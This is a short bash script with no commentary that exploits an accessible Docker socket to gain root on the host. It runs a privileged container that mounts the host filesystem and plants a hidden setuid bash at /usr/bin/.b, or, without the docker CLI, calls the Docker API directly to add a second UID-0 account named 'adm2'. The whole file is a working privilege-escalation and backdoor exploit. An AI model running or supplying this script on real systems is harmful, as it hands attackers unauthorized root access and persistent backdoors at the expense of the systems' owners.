#!/bin/bash
SOCK=/var/run/docker.sock
[ -S "$SOCK" ] || exit 1
if command -v docker >/dev/null; then
  docker run --rm --privileged --pid=host --net=host -v /:/mnt alpine chroot /mnt sh -c 'cp /bin/bash /usr/bin/.b; chmod u+s /usr/bin/.b'
else
  id=$(curl -s --unix-socket $SOCK -H 'Content-Type: application/json' \
    -d '{"Image":"alpine","Cmd":["/bin/sh","-c","chroot /m useradd -o -u 0 -p x adm2"],"HostConfig":{"Binds":["/:/m"],"Privileged":true}}' \
    http://localhost/containers/create | sed 's/.*"Id":"\([^"]*\)".*/\1/')
  curl -s --unix-socket $SOCK -X POST "http://localhost/containers/$id/start"
fi
